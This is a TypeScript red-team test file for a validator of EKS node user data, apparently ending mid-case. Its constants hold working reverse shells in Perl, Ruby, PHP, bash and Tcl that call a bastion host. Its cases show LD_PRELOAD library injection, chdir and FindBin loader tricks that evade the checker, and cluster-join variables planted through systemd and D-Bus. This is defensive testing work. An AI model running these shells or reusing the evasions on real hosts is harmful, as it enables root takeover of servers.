// Red-team round 69 on EKS NODE user data (fresh eyes on round 69's node loader and agent fixes).
// Probed: the round-69 loader fixes' neighbours (perl q with a `,` delimiter around a do, FindBin glob assignment
// and FindBin::again, `CORE::do`, ruby send/method/instance_eval, lua `load[[...]]`, LuaJIT ffi.load/ffi.C.system,
// PHP FFI::load headers and proc_open env), loads made relative to a working directory the script itself changes
// (perl chdir, ruby Dir.chdir and relative __FILE__, tcl cd with a relative [info script], php chdir), loader
// variables set for a literal harmless child (ruby env hash and ENV, perl %ENV, tcl env()), and Tcl/Perl idioms
// careful teams write (file normalize, source -encoding, File::Spec->catdir). Agents: type-wide and prefix drop-ins,
// /etc/sysconfig and k3s.service.env, import-environment, busctl SetEnvironment, system.control drop-ins, unit alias
// symlinks, systemd-run, docker/nerdctl/podman --entrypoint sh -c fetching a script, pm2 YAML and --interpreter, monit
// exec actions, -c and include, supervisord %(ENV_X)s and supervisord.d, wazuh internal_options/sca/heredoc/sed $a.
// Misses (26 insecure, 3 secure):
// - chdir-relative loads (6): perl chdir + do ./x, ruby Dir.chdir + require ./x, ruby relative __FILE__ after
//   Dir.chdir, tcl cd + relative [info script], php chdir + include ./x, lua lfs.chdir + require of ./?.lua.
// - FindBin changed outside its variable (2): `*FindBin::Bin = \"..."`, `$0 = ...; FindBin::again()`.
// - perl `CORE::do` (1); LuaJIT ffi.load of a downloaded .so (1).
// - loader variables for a literal child (4): ruby system env hash, ruby ENV[], perl $ENV{}, tcl set env().
// - agents (12): busctl SetEnvironment, system.control drop-in, unit alias + alias drop-in, docker (both forms)/
//   nerdctl/podman --entrypoint sh -c piping a fetched script into sh, pm2 --interpreter bash, monit -c, monit
//   include outside /etc/monit.d, supervisord %(ENV_X)s, wazuh internal_options.conf.
// - secure refused (3): tcl `[file dirname [file normalize [info script]]]`, tcl `source -encoding utf-8 ...`,
//   perl `use lib File::Spec->catdir($FindBin::Bin, 'lib')`.
// Held: q,", blanking, tcl cd + source ./x, instance_method(:load).bind_call, systemctl -q set-environment,
// /usr/local/lib drop-ins, send(:load)/method(:require)/instance_eval, load[[...]], ffi.C.system, FFI::load,
// proc_open env, service.d and rke2-.service.d drop-ins, sysconfig/service.env, import-environment, systemd-run,
// pm2 YAML, monit exec, supervisord.d, wazuh sca/heredoc/sed; and every secure neighbour but the three above.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

/** What a relay or a shared shell is refused as. */
const RELAY =
    /beyond loopback|does not read|forward|shell|another host|tunnel|relay|hands the node|X server|made at boot|cannot read|cannot compute|does not write/;
/** What remote management of the node is refused as. */
const REMOTE = /hands the node|remote|ssh|tailnet|root|does not read|metadata|cannot read|cluster/i;
const PERL_SHELL = `use IO::Socket;$s=IO::Socket::INET->new("bastion.example.com:4444");open STDIN,"<&",$s;open STDOUT,">&",$s;exec "/bin/sh -i"`;
const RUBY_SHELL = `require "socket";c=TCPSocket.new("bastion.example.com",4444);exec "/bin/sh -i",in: c,out: c,err: c`;
const PHP_SHELL = `<?php $s=fsockopen("bastion.example.com",4444);proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$p);`;
const BASH_SHELL = "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1";
const TCL_SHELL = `set s [socket bastion.example.com 4444]; while 1 { puts $s [exec sh -c [gets $s]]; flush $s }`;
const written = (path: string, text: string) => [`cat > ${path} <<'EOF'`, text, "EOF"];
const SH = written("/opt/r.sh", BASH_SHELL);
const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";

const loadersInsecure: NodeCase[] = [
    devNodeCase("control: bash /opt/r.sh", devNodeScript("dev-c1-69-nodes", [...SH, "bash /opt/r.sh"]), RELAY),
    // perlop "Quote and Quote-like Operators" (q with any non-whitespace delimiter, `,` included).
    devNodeCase(
        'perl q,", literals around a do of a written shell',
        devNodeScript("dev-l1-69-nodes", [
            ...written("/opt/r.pl", PERL_SHELL),
            `perl -e 'print q,",; do "/opt/r.pl"; print q,",;'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): perlvar/perlmod typeglobs (`*FindBin::Bin = \"/opt/evil"` aliases $FindBin::Bin to a constant; checked
    // with perl 5: prints /evil) + perldoc lib: `use lib "$FindBin::Bin/lib"` then searches /opt/evil/lib and `use
    // Helper` runs the written reverse shell as root. perlLiterals (userData.ts) rewrites FindBin's variable to the
    // script's directory unless a use of `$FindBin::Bin` may change it; a glob assignment (`*FindBin::Bin`, also
    // `${"FindBin::Bin"}`, `$FindBin::{Bin}`) is not matched by its `\$\{?FindBin::Bin` pattern, so `reads` stays
    // true. Fix: any other mention of FindBin's symbol (`*FindBin::`, `FindBin::{`, symbolic refs,
    // `FindBin::again`/`->again`) sets reads=false. Accepted (got []).
    devNodeCase(
        "perl *FindBin::Bin glob assigned in BEGIN before use lib",
        devNodeScript("dev-l2-69-nodes", [
            "mkdir -p /opt/app/lib /opt/evil/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/evil/lib/Helper.pm", `package Helper; ${PERL_SHELL}; 1;`),
            ...written(
                "/opt/app/run.pl",
                `use FindBin; BEGIN { *FindBin::Bin = \\"/opt/evil" } use lib "$FindBin::Bin/lib"; use Helper;`,
            ),
            "perl /opt/app/run.pl",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): perldoc FindBin KNOWN ISSUES ("call the again function: use FindBin; FindBin::again();" recomputes $Bin
    // from $0) + perlvar $0 (assignable): `BEGIN { $0 = "/opt/evil/run.pl"; FindBin::again() }` makes $FindBin::Bin
    // /opt/evil, so `use lib "$FindBin::Bin/lib"; use Helper` runs the written reverse shell. perlLiterals
    // (userData.ts) reads $FindBin::Bin as the script's directory (no use of the variable itself changes it). Fix:
    // `again` (FindBin::again, FindBin->again) or an assignment to $0 before the use → reads=false (computed).
    // Accepted (got []).
    devNodeCase(
        "perl $0 changed and FindBin::again() before use lib",
        devNodeScript("dev-l3-69-nodes", [
            "mkdir -p /opt/app/lib /opt/evil/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written("/opt/evil/lib/Helper.pm", `package Helper; ${PERL_SHELL}; 1;`),
            ...written("/opt/evil/run.pl", "1;"),
            ...written(
                "/opt/app/run.pl",
                `use FindBin; BEGIN { $0 = "/opt/evil/run.pl"; FindBin::again() } use lib "$FindBin::Bin/lib"; use Helper;`,
            ),
            "perl /opt/app/run.pl",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): perlfunc do EXPR ("do './stat.pl'" is relative to the current directory, ./ and ../ not searched in @INC)
    // + perlfunc chdir: after `chdir "/opt/evil"` the `do "./x.pl"` runs /opt/evil/x.pl (the written reverse shell),
    // not /opt/app/x.pl. perlLoads/fileOnPath (userData.ts) resolve ./ against the shell's cwd only. Fix: a perl text
    // with chdir (or any cwd change) makes ./ and ../ loads computed (as python's os.chdir was in round 69). Accepted
    // (got []).
    devNodeCase(
        "perl chdir then do ./x.pl",
        devNodeScript("dev-l4-69-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/x.pl", `print "hi\\n";`),
            ...written("/opt/evil/x.pl", PERL_SHELL),
            `cd /opt/app && perl -e 'chdir "/opt/evil"; do "./x.pl"'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): Ruby Kernel#require ("If the filename starts with './' or '../', resolution is based on Dir.pwd") +
    // Dir.chdir: `Dir.chdir("/opt/evil"); require "./helper"` loads /opt/evil/helper.rb, the written reverse shell.
    // rubyLoads/fileOnPath (userData.ts) resolve ./ against the shell's cwd. Fix: Dir.chdir (any cwd change) makes
    // relative loads computed. Accepted (got []).
    devNodeCase(
        "ruby Dir.chdir then require ./helper",
        devNodeScript("dev-l5-69-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/helper.rb", `puts "hi"`),
            ...written("/opt/evil/helper.rb", RUBY_SHELL),
            `cd /opt/app && ruby -e 'Dir.chdir("/opt/evil"); require "./helper"'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): Ruby __FILE__ is the path as given (`ruby run.rb` → "run.rb", File.dirname → "."; Kernel#require of
    // "./helper" resolves against Dir.pwd): after Dir.chdir("/opt/evil") `require File.dirname(__FILE__) + "/helper"`
    // loads /opt/evil/helper.rb. rubyLiterals (userData.ts) spells File.dirname(__FILE__) as the script's absolute
    // directory (/opt/app). Fix: only where the script was named by an absolute path, or with no cwd change in the
    // text; else computed (__dir__ and require_relative are absolute and fine). Accepted (got []).
    devNodeCase(
        "ruby relative __FILE__ after Dir.chdir",
        devNodeScript("dev-l6-69-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/helper.rb", `puts "hi"`),
            ...written("/opt/evil/helper.rb", RUBY_SHELL),
            ...written("/opt/app/run.rb", `Dir.chdir("/opt/evil")\nrequire File.dirname(__FILE__) + "/helper"`),
            "cd /opt/app && ruby run.rb",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): Tcl info(n) `info script` returns the name the script was invoked by (relative for `tclsh main.tcl`:
    // checked, `[file join [file dirname [info script]] lib.tcl]` is ./lib.tcl) and cd(n) changes the directory that
    // relative name resolves against: `cd /opt/evil; source [file join [file dirname [info script]] lib.tcl]` sources
    // /opt/evil/lib.tcl (the written reverse shell). The tcl loader's `code` (userData.ts, `self =
    // posix.dirname(at.file)`) uses the resolved absolute path. Fix: a Tcl text with `cd` (or a script invoked by a
    // relative name) makes [info script]-relative loads computed. Accepted (got []).
    devNodeCase(
        "tcl relative [info script] after cd",
        devNodeScript("dev-l7-69-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"),
            ...written("/opt/evil/lib.tcl", TCL_SHELL),
            ...written("/opt/app/main.tcl", "cd /opt/evil\nsource [file join [file dirname [info script]] lib.tcl]"),
            "cd /opt/app && tclsh main.tcl",
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): PHP manual include ("If a path is defined — whether absolute or relative (starting with . or ..) — the
    // include_path will be ignored ... relative to the current working directory") + chdir(): `chdir("/opt/evil");
    // include "./x.php"` runs /opt/evil/x.php, the written reverse shell. phpLoads (userData.ts) resolves ./ against
    // the shell's cwd. Fix: chdir() in the text makes relative includes computed. Accepted (got []).
    devNodeCase(
        "php chdir then include ./x.php",
        devNodeScript("dev-l8-69-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/x.php", `<?php echo "hi";`),
            ...written("/opt/evil/x.php", PHP_SHELL),
            `cd /opt/app && php -r 'chdir("/opt/evil"); include "./x.php";'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): LuaJIT FFI API `ffi.load(name [,global])` ("loads the dynamic library given by name and returns a new C
    // library namespace"; an absolute path loads that file): runs the downloaded native /opt/x.so as root. The lua
    // loader (userData.ts CODE_LOADERS lua) knows package.loadlib (round 68) and `ffi` is only a known module
    // (LUA_KNOWN). Fix: read `ffi.load(LITERAL)` as a native load like package.loadlib/PHP FFI::cdef; computed →
    // unread. Accepted (got []).
    devNodeCase(
        "luajit ffi.load of a downloaded library",
        devNodeScript("dev-l9-69-nodes", [
            SO,
            `luajit -e 'local ffi = require("ffi"); ffi.cdef[[int run(void);]]; ffi.load("/opt/x.so").run()'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "luajit ffi.C.system of a written shell",
        devNodeScript("dev-l10-69-nodes", [
            ...SH,
            `luajit -e 'local ffi = require("ffi"); ffi.cdef[[int system(const char *c);]]; ffi.C.system("bash /opt/r.sh")'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "php proc_open of ls with env LD_PRELOAD",
        devNodeScript("dev-l11-69-nodes", [
            SO,
            `php -r '$p = proc_open(["ls"], [], $pipes, null, ["LD_PRELOAD" => "/opt/x.so"]); proc_close($p);'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): Ruby Kernel#system/spawn (`system([env,] command...)`: "env: hash ... name => val: set the environment
    // variable") + ld.so(8) LD_PRELOAD: `system({"LD_PRELOAD" => "/opt/x.so"}, "ls")` loads the downloaded /opt/x.so
    // into root's ls. The inline ruby command judge accepts the harmless literal `ls` without reading the env hash
    // (literalScriptCommands returns undefined on `{`, and the fallback accepts). Fix: an env hash, ENV[...]= or
    // ENV.update naming a loader variable (LD_PRELOAD, LD_LIBRARY_PATH, BASH_ENV, ...) makes the child unread, as
    // round 69 did for PHP putenv. Accepted (got []).
    devNodeCase(
        "ruby system with an env hash LD_PRELOAD",
        devNodeScript("dev-l12-69-nodes", [SO, `ruby -e 'system({"LD_PRELOAD" => "/opt/x.so"}, "ls")'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): perlvar %ENV ("Setting a value in ENV changes the environment for any child processes you subsequently
    // fork()") + ld.so(8) LD_PRELOAD: `$ENV{LD_PRELOAD} = "/opt/x.so"; system("ls")` loads the downloaded /opt/x.so
    // into root's ls. The inline perl judge reads `ls` and not the environment. Fix: %ENV writes of loader variables
    // make the children unread (as PHP putenv, round 69). Accepted (got []).
    devNodeCase(
        "perl $ENV{LD_PRELOAD} then system ls",
        devNodeScript("dev-l13-69-nodes", [SO, `perl -e '$ENV{LD_PRELOAD} = "/opt/x.so"; system("ls")'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): Ruby ENV ([]= "Creates, updates, or deletes the named environment variable"; children inherit it) +
    // ld.so(8) LD_PRELOAD: loads the downloaded /opt/x.so into root's ls. Same gap as the env-hash case. Accepted (got
    // []).
    devNodeCase(
        "ruby ENV[LD_PRELOAD] then system ls",
        devNodeScript("dev-l14-69-nodes", [SO, `ruby -e 'ENV["LD_PRELOAD"] = "/opt/x.so"; system("ls")'`]),
        RELAY,
    ),
    devNodeCase(
        "lua load of a long-bracket chunk without parentheses",
        devNodeScript("dev-l15-69-nodes", [...SH, `lua -e 'load[[os.execute("bash /opt/r.sh")]]()'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby send(:load, ...)",
        devNodeScript("dev-l16-69-nodes", [...written("/opt/r.rb", RUBY_SHELL), `ruby -e 'send(:load, "/opt/r.rb")'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby method(:require).call",
        devNodeScript("dev-l17-69-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            `ruby -e 'method(:require).call("/opt/r.rb")'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): perlsub/CORE ("CORE::name always refers to the built-in function"; checked: `perl -e
    // 'CORE::do("/tmp/r.pl")'` runs the file): `CORE::do("/opt/r.pl")` runs the written reverse shell. perlLoads'
    // keyword matcher rejects a `do` preceded by `::`. Fix: accept a `CORE::`/`CORE::GLOBAL::` prefix on
    // do/require/eval. Accepted (got []).
    devNodeCase(
        "perl CORE::do of a written shell",
        devNodeScript("dev-l18-69-nodes", [...written("/opt/r.pl", PERL_SHELL), `perl -e 'CORE::do("/opt/r.pl")'`]),
        RELAY,
    ),
    devNodeCase(
        "ruby instance_eval of a literal that loads",
        devNodeScript("dev-l19-69-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            `ruby -e 'instance_eval("load %q(/opt/r.rb)")'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl string eval of a q,, literal",
        devNodeScript("dev-l20-69-nodes", [...written("/opt/r.pl", PERL_SHELL), `perl -e 'eval q,do "/opt/r.pl",'`]),
        RELAY,
    ),
    devNodeCase(
        "php FFI::load of a written header naming a downloaded library",
        devNodeScript("dev-l21-69-nodes", [
            SO,
            ...written("/opt/x.h", `#define FFI_LIB "/opt/x.so"\nint run(void);`),
            `php -r 'FFI::load("/opt/x.h")->run();'`,
        ]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): Tcl tclvars(n) env ("If an entry in env is modified ... the change will be reflected in the environment
    // passed to children created with commands like exec") + ld.so(8): `set env(LD_PRELOAD) /opt/x.so; exec ls` loads
    // the downloaded library into root's ls. The Tcl exec judge reads `ls` only. Fix: writes to env(LD_*|BASH_ENV|...)
    // make exec'd children unread. Accepted (got []).
    devNodeCase(
        "tcl set env(LD_PRELOAD) then exec ls",
        devNodeScript("dev-l22-69-nodes", [SO, `tclsh <<< 'set env(LD_PRELOAD) /opt/x.so; exec ls'`]),
        RELAY,
    ),
    // Was a MISS (fixed in round 70): LuaFileSystem manual `lfs.chdir(path)` ("Changes the current working directory") + Lua 5.4 manual
    // package.searchpath (a `./?.lua` template is relative to the current directory): after `lfs.chdir("/opt/evil")`,
    // `require("helper")` loads /opt/evil/helper.lua (a written reverse shell), not /opt/app/helper.lua. The lua
    // loader (userData.ts CODE_LOADERS lua) resolves ./ templates against the shell's cwd. Fix: lfs.chdir (or
    // posix.chdir/unistd.chdir) in the text makes relative package.path entries and ./ loads computed (tcl `cd` +
    // `source ./x` is already refused). Accepted (got []).
    devNodeCase(
        "lua lfs.chdir then require of a ./?.lua module",
        devNodeScript("dev-l23-69-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/helper.lua", "return {}"),
            ...written("/opt/evil/helper.lua", 'os.execute("bash -i >& /dev/tcp/bastion.example.com/4444 0>&1")'),
            `cd /opt/app && lua -e 'require("lfs").chdir("/opt/evil"); package.path = "./?.lua;" .. package.path; require("helper")'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl cd then source ./lib.tcl",
        devNodeScript("dev-l24-69-nodes", [
            "mkdir -p /opt/app /opt/evil",
            ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"),
            ...written("/opt/evil/lib.tcl", TCL_SHELL),
            `cd /opt/app && tclsh <<< 'cd /opt/evil; source ./lib.tcl'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby instance_method(:load).bind_call",
        devNodeScript("dev-l25-69-nodes", [
            ...written("/opt/r.rb", RUBY_SHELL),
            `ruby -e 'Kernel.instance_method(:load).bind_call(self, "/opt/r.rb")'`,
        ]),
        RELAY,
    ),
    // Round 70 neighbours (fix70-loaders): the insecure twins of the secure fixes and other spellings.
    devNodeCase(
        "tcl [file dirname [file normalize [info script]]] sourcing a sibling shell",
        devNodeScript("dev-l26-69-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.tcl", TCL_SHELL),
            ...written("/opt/app/main.tcl", "source [file join [file dirname [file normalize [info script]]] lib.tcl]"),
            "tclsh /opt/app/main.tcl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl source -encoding utf-8 of a sibling shell",
        devNodeScript("dev-l27-69-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.tcl", TCL_SHELL),
            ...written("/opt/app/main.tcl", "source -encoding utf-8 [file join [file dirname [info script]] lib.tcl]"),
            "tclsh /opt/app/main.tcl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl use lib File::Spec->catdir($FindBin::Bin, 'lib') of a written shell module",
        devNodeScript("dev-l28-69-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; ${PERL_SHELL}; 1;`),
            ...written(
                "/opt/app/run.pl",
                `use FindBin; use File::Spec; use lib File::Spec->catdir($FindBin::Bin, 'lib'); use Helper;`,
            ),
            "perl /opt/app/run.pl",
        ]),
        RELAY,
    ),
    devNodeCase(
        "ruby ENV.store LD_PRELOAD then system ls",
        devNodeScript("dev-l29-69-nodes", [SO, `ruby -e 'ENV.store("LD_PRELOAD", "/opt/x.so"); system("ls")'`]),
        RELAY,
    ),
    devNodeCase(
        "luajit ffi under another name calling C.system",
        devNodeScript("dev-l30-69-nodes", [
            ...SH,
            `luajit -e 'local f = require("ffi"); f.cdef[[int system(const char *c);]]; f.C.system("bash /opt/r.sh")'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "perl chdir to a computed directory then do ./x.pl",
        devNodeScript("dev-l31-69-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/x.pl", `print "hi\\n";`),
            `cd /opt/app && perl -e 'chdir $ENV{D}; do "./x.pl"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "tcl set ::env(BASH_ENV) then exec bash",
        devNodeScript("dev-l32-69-nodes", [...SH, `tclsh <<< 'set ::env(BASH_ENV) /opt/r.sh; exec bash -c true'`]),
        RELAY,
    ),
];

const loadersSecure: NodeCase[] = [
    devNodeCase("perl q,, literal harmless", devNodeScript("dev-ls1-69-nodes", [`perl -e 'print q,hello,' > /tmp/h`])),
    // Was a MISS (fixed in round 70): Tcl file(n) `file normalize` (an absolute path) around info script is the common robust form of the
    // round-69 idiom: the harmless sibling /opt/app/lib.tcl is refused as a computed source. tclScriptDirectory
    // (userData.ts) only matches `[file dirname [info script]]` exactly. Fix: also accept `[file dirname [file
    // normalize [info script]]]` (and `[file normalize [file dirname [info script]]]`) as the script's (absolute)
    // directory. Refused (secure).
    devNodeCase(
        "tcl set dir [file dirname [file normalize [info script]]]; source harmless",
        devNodeScript("dev-ls2-69-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"),
            ...written(
                "/opt/app/main.tcl",
                "set dir [file dirname [file normalize [info script]]]\nsource [file join $dir lib.tcl]\nhi",
            ),
            "tclsh /opt/app/main.tcl > /tmp/h",
        ]),
    ),
    // Was a MISS (fixed in round 70): Tcl source(n) `source ?-encoding encodingName? fileName` (8.5+): the option is skipped by the matcher's
    // `(?:-\S+\s+)*` but its VALUE `utf-8` is then read as the file and the real `[file join ...]` word dropped, so a
    // harmless sibling is refused. Fix: skip `-encoding NAME` as an option with a value. Refused (secure).
    devNodeCase(
        "tcl source -encoding utf-8 of a sibling harmless",
        devNodeScript("dev-ls3-69-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/lib.tcl", "proc hi {} { puts hi }"),
            ...written(
                "/opt/app/main.tcl",
                "source -encoding utf-8 [file join [file dirname [info script]] lib.tcl]\nhi",
            ),
            "tclsh /opt/app/main.tcl > /tmp/h",
        ]),
    ),
    // Was a MISS (fixed in round 70): perldoc File::Spec catdir ("Concatenate two or more directory names to form a complete path") is the
    // portable form of `"$FindBin::Bin/lib"`; the harmless /opt/app/lib/Helper.pm is refused (use FindBin, use
    // File::Spec, use Helper all as "code user data does not..."). perlLiterals reads FindBin only in strings or `.`
    // joins. Fix: read `File::Spec->catdir|catfile($FindBin::Bin, LITERALS)` (and File::Spec::Functions catdir) as the
    // joined literal. Refused (secure).
    devNodeCase(
        "perl use lib File::Spec->catdir($FindBin::Bin, 'lib') harmless",
        devNodeScript("dev-ls4-69-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/Helper.pm", `package Helper; sub hi { print "hi" } 1;`),
            ...written(
                "/opt/app/run.pl",
                `use FindBin; use File::Spec; use lib File::Spec->catdir($FindBin::Bin, 'lib'); use Helper; Helper::hi();`,
            ),
            "perl /opt/app/run.pl > /tmp/h",
        ]),
    ),
    devNodeCase(
        "ruby require_relative harmless",
        devNodeScript("dev-ls5-69-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/helper.rb", `def hi; File.write("/tmp/h", "hi"); end`),
            ...written("/opt/app/run.rb", `require_relative "lib/helper"\nhi`),
            "ruby /opt/app/run.rb",
        ]),
    ),
    devNodeCase(
        "ruby $LOAD_PATH.unshift File.join(__dir__, lib) harmless",
        devNodeScript("dev-ls6-69-nodes", [
            "mkdir -p /opt/app/lib",
            ...written("/opt/app/lib/helper.rb", `def hi; File.write("/tmp/h", "hi"); end`),
            ...written("/opt/app/run.rb", `$LOAD_PATH.unshift File.join(__dir__, "lib")\nrequire "helper"\nhi`),
            "ruby /opt/app/run.rb",
        ]),
    ),
    // Round 70: `require("ffi")` whose every use is a read-only member (userData.ts luaFfiInert) is harmless;
    // ffi.C, ffi.load, ffi.cast stay code the pack does not read (luajit ffi.C.system, ffi.load cases above).
    devNodeCase(
        "luajit ffi reading ffi.os harmless",
        devNodeScript("dev-ls7-69-nodes", [`luajit -e 'local ffi = require("ffi"); print(ffi.os)' > /tmp/o`]),
    ),
    devNodeCase(
        "luajit jit.os harmless",
        devNodeScript("dev-ls7b-69-nodes", [`luajit -e 'local jit = require("jit"); print(jit.os)' > /tmp/o`]),
    ),
    devNodeCase(
        "ruby ENV TZ then system date harmless",
        devNodeScript("dev-ls8-69-nodes", [`ruby -e 'ENV["TZ"] = "UTC"; system("date")' > /tmp/d`]),
    ),
    devNodeCase(
        "perl $ENV{TZ} then system date harmless",
        devNodeScript("dev-ls9-69-nodes", [`perl -e '$ENV{TZ} = "UTC"; system("date")' > /tmp/d`]),
    ),
    devNodeCase(
        "php chdir(__DIR__) then require ./src harmless",
        devNodeScript("dev-ls10-69-nodes", [
            "mkdir -p /opt/app/src",
            ...written("/opt/app/src/Util.php", `<?php function hi() { file_put_contents("/tmp/h", "hi"); }`),
            ...written("/opt/app/run.php", `<?php\nchdir(__DIR__);\nrequire "./src/Util.php";\nhi();`),
            "php /opt/app/run.php",
        ]),
    ),
    devNodeCase(
        "perl string with a comma-delimited q in prose harmless",
        devNodeScript("dev-ls11-69-nodes", [`perl -e 'print "do not require q, thanks\\n"' > /tmp/h`]),
    ),
    // Round 70 neighbours (fix70-loaders): the secure twins of the insecure fixes.
    devNodeCase(
        "perl chdir to a literal directory then do ./x.pl harmless",
        devNodeScript("dev-ls12-69-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/x.pl", `open(my $f, ">", "/tmp/h"); print $f "hi";`),
            `cd / && perl -e 'chdir "/opt/app"; do "./x.pl"'`,
        ]),
    ),
    devNodeCase(
        "ruby relative __FILE__ without a chdir harmless",
        devNodeScript("dev-ls13-69-nodes", [
            "mkdir -p /opt/app",
            ...written("/opt/app/helper.rb", `File.write("/tmp/h", "hi")`),
            ...written("/opt/app/run.rb", `require File.dirname(__FILE__) + "/helper"`),
            "cd /opt/app && ruby run.rb",
        ]),
    ),
    devNodeCase(
        "ruby system with an env hash TZ harmless",
        devNodeScript("dev-ls14-69-nodes", [`ruby -e 'system({"TZ" => "UTC"}, "date")' > /tmp/d`]),
    ),
    devNodeCase(
        "tcl set env(TZ) then exec date harmless",
        devNodeScript("dev-ls15-69-nodes", [`tclsh <<< 'set env(TZ) UTC; puts [exec date]' > /tmp/d`]),
    ),
];

const agentsInsecure: NodeCase[] = [
    devNodeCase(
        "k3s unit with K3S_URL in the type-wide service.d drop-in",
        devNodeScript("dev-a1-69-nodes", [
            ...heredocFile("/etc/systemd/system/service.d/10-join.conf", [
                "[Service]",
                'Environment="K3S_URL=https://k3s.example.com:6443" "K3S_TOKEN=EXAMPLEONLY"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "rke2-server with RKE2_URL in the rke2-.service.d prefix drop-in",
        devNodeScript("dev-a2-69-nodes", [
            ...heredocFile("/etc/systemd/system/rke2-.service.d/join.conf", [
                "[Service]",
                'Environment="RKE2_URL=https://rke2.example.com:9345" "RKE2_TOKEN=EXAMPLEONLY"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now rke2-server",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s env file in /etc/sysconfig/k3s",
        devNodeScript("dev-a3-69-nodes", [
            "echo 'K3S_URL=https://k3s.example.com:6443' > /etc/sysconfig/k3s",
            "echo 'K3S_TOKEN=EXAMPLEONLY' >> /etc/sysconfig/k3s",
            "systemctl restart k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s env file /etc/systemd/system/k3s.service.env",
        devNodeScript("dev-a4-69-nodes", [
            "echo 'K3S_URL=https://k3s.example.com:6443' > /etc/systemd/system/k3s.service.env",
            "systemctl restart k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s unit after export + systemctl import-environment K3S_URL",
        devNodeScript("dev-a5-69-nodes", [
            "export K3S_URL=https://k3s.example.com:6443 K3S_TOKEN=EXAMPLEONLY",
            "systemctl import-environment K3S_URL K3S_TOKEN",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 70): org.freedesktop.systemd1(5) Manager `SetEnvironment(in as assignments)` (what `systemctl set-environment`
    // calls) via busctl(1) `call SERVICE OBJECT INTERFACE METHOD SIGNATURE ARGS`: K3S_URL/K3S_TOKEN in the manager
    // environment make the packaged k3s unit join another cluster (its admins schedule privileged pods onto this
    // custody node). packagedUnitAgent/manager environment (userData.ts ~11357) reads `systemctl set-environment`
    // only. Fix: read busctl/gdbus/dbus-send calls of SetEnvironment/UnsetAndSetEnvironment (or fail closed on any
    // systemd1 Manager D-Bus call). Accepted (got []).
    devNodeCase(
        "k3s unit after busctl SetEnvironment K3S_URL",
        devNodeScript("dev-a6-69-nodes", [
            "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager SetEnvironment as 2 K3S_URL=https://k3s.example.com:6443 K3S_TOKEN=EXAMPLEONLY",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    // Round 70 neighbours: the same Manager method through gdbus and dbus-send, and UnsetAndSetEnvironment.
    devNodeCase(
        "k3s unit after gdbus call SetEnvironment K3S_URL",
        devNodeScript("dev-a6b-70-nodes", [
            "gdbus call --system --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.SetEnvironment \"['K3S_URL=https://k3s.example.com:6443', 'K3S_TOKEN=EXAMPLEONLY']\"",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s unit after dbus-send UnsetAndSetEnvironment K3S_URL",
        devNodeScript("dev-a6c-70-nodes", [
